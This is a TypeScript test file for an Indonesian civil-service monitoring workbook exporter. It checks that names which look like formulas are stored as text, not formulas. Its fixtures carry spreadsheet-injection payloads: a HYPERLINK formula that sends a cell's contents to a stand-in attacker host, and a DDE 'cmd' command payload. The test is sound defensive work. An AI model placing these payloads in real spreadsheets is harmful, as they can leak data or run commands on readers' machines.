import { strFromU8, unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { readXlsx } from '../exchange/exchange.xlsx-reader.ts';
import { monitoringWorkbook } from './monitoring-xlsx.ts';

const HOSTILE = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")';

describe('monitoring workbook', () => {
  it('keeps names that look like formulas as string cells, never formulas', async () => {
    const counts = { belumMulai: 1, draft: 0, diajukan: 0, dikembalikan: 0, ditetapkan: 0, total: 1 };
    const stream = monitoringWorkbook(
      {
        tahun: 2026,
        tanggalAcuan: '2026-01-15',
        cakupan: {
          jenis: 'UNIT',
          unit: { id: 'u', nama: "=cmd|' /C calc'!A0", jenis: 'DINAS', parentId: null },
          canUnduhMassal: false,
        },
        baris: [{ unitId: 'u', nama: '@SUM(1+1)', jenis: 'DINAS', langsung: false, adaSubunit: false, ...counts }],
        jumlah: counts,
      },
      [
        {
          pegawaiId: 'p',
          nip: '199001012015031001',
          nama: HOSTILE,
          gelarDepan: '+1',
          gelarBelakang: null,
          jabatanNama: '-2+3+cmd|x',
          unitId: 'u',
          unitNama: '@SUM(1+1)',
          status: 'BELUM_MULAI',
          skpId: null,
          penilaiNama: '=1+1',
          diajukanAt: null,
          ditetapkanAt: null,
          diubahAt: null,
        },
      ],
    );
    const chunks: Buffer[] = [];
    for await (const c of stream) chunks.push(c as Buffer);
    const bytes = Buffer.concat(chunks);
    const xml = Object.entries(unzipSync(bytes))
      .filter(([name]) => name.startsWith('xl/worksheets/'))
      .map(([, d]) => strFromU8(d))
      .join('');
    expect(xml).not.toMatch(/<f[\s>]/);
    const pegawai = readXlsx(bytes).find((s) => s.name === 'Pegawai');
    expect(pegawai?.rows[1].cells.slice(0, 6)).toEqual([
      '199001012015031001',
      `+1 ${HOSTILE}`,
      '-2+3+cmd|x',
      '@SUM(1+1)',
      'Belum mulai',
      '=1+1',
    ]);
  });
});
